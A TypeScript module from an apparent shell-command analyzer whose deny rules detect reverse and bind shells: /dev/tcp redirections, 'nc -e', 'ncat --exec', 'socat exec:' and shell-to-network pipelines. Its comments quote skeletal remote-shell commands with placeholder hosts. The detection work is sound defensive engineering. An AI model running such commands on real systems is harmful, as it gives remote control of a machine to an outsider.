// The remote-shell family: a shell whose input and output are a network
// connection (a reverse or bind shell) hands the machine to whoever is on
// the other end. Forms: bash's /dev/tcp and /dev/udp redirections (also
// through a descriptor opened earlier with `exec 5<>/dev/tcp/...`), network
// clients told to run a program (`nc -e`, `ncat --exec`, `socat ... exec:`),
// a pipeline joining a shell and a network client (the mkfifo and telnet
// loops), and interpreter one-liners that connect a socket and give it to a
// shell (judged in families/interpreters.ts with the tables here).
import { posix } from 'node:path';
import type { Analyzer } from '../analyze';
import type { Rule, RuleContext } from '../rules';
import { NET_CLIENTS, NET_DEVICE, SHELL_NAMES, SOCAT_EXEC, SOCAT_NET } from '../tables/remote-shell';
import { own } from './args';

/** Descriptors opened on a network connection earlier on the line (`exec 196<>/dev/tcp/h/p`). */
const netFds = new WeakMap<Analyzer, Set<string>>();

function hitShell(r: RuleContext, how: string): void {
  r.analyzer.hit('reverse-shell', 'deny', r.segment, `gives a shell to a network connection (${how}): whoever is on the other end controls the machine`);
}

const isShell = (name: string, argv: string[]) => SHELL_NAMES.has(name) && (name !== 'busybox' || SHELL_NAMES.has(argv[1] ?? ''));
const isNetClient = (name: string) => own(NET_CLIENTS, posix.basename(name)) !== undefined || Object.hasOwn(NET_CLIENTS, posix.basename(name));

const redirections: Rule = (r) => {
  let fds = netFds.get(r.analyzer);
  let net = false;
  for (const red of r.cmd.redirects) {
    const t = red.target.text;
    if (NET_DEVICE.test(t)) {
      net = true;
      if (red.fd !== undefined && red.fd > 2) {
        if (!fds) netFds.set(r.analyzer, (fds = new Set()));
        fds.add(String(red.fd));
      }
    } else if ((red.op.endsWith('&') || red.op === '<&' || red.op === '>&') && fds?.has(t.replace(/-$/, ''))) net = true;
  }
  if (!net) return;
  const name = r.name;
  if (isShell(name, r.argv) || (name === 'exec' && r.argv.length > 1 && isShell(posix.basename(r.argv[1]), r.argv.slice(1)))) hitShell(r, `${name} with its input or output on /dev/tcp or /dev/udp`);
};

const clients: Rule = (r) => {
  const base = posix.basename(r.name);
  const execOpt = own(NET_CLIENTS, base);
  if (execOpt && r.argv.slice(1).some((a) => execOpt.test(a))) hitShell(r, `${base} runs a program on the connection`);
  if (base === 'socat') {
    const addrs = r.argv.slice(1).filter((a) => !a.startsWith('-') || a === '-');
    if (addrs.some((a) => SOCAT_EXEC.test(a)) && addrs.some((a) => SOCAT_NET.test(a))) hitShell(r, 'socat joins a network address to a program');
  }
  // A pipeline that joins a shell and a network client: `cat f | sh -i | nc h p > f`, `telnet h p | sh | telnet h q`.
  const others = r.pipe.filter((c) => c !== r.cmd && c.pipeline === r.cmd.pipeline && c.words.length);
  if (others.length === 0) return;
  const names = others.map((c) => posix.basename(c.words[0].text));
  const meIsShell = isShell(base, r.argv) && !r.argv.slice(1).some((a) => a === '-c' || (!a.startsWith('-') && a !== '-'));
  const meIsNet = isNetClient(base) && base !== 'openssl' ? true : base === 'openssl' && r.argv[1] === 's_client';
  if (meIsNet && names.some((n, i) => SHELL_NAMES.has(n) && !others[i].words.slice(1).some((w) => w.text === '-c'))) hitShell(r, `a pipeline joins ${base} and a shell`);
  if (meIsShell && names.some((n, i) => (isNetClient(n) && n !== 'openssl') || (n === 'openssl' && others[i].words[1]?.text === 's_client'))) hitShell(r, `a pipeline joins a shell and a network client`);
};

export const REMOTE_SHELL_RULES: Rule[] = [redirections, clients];
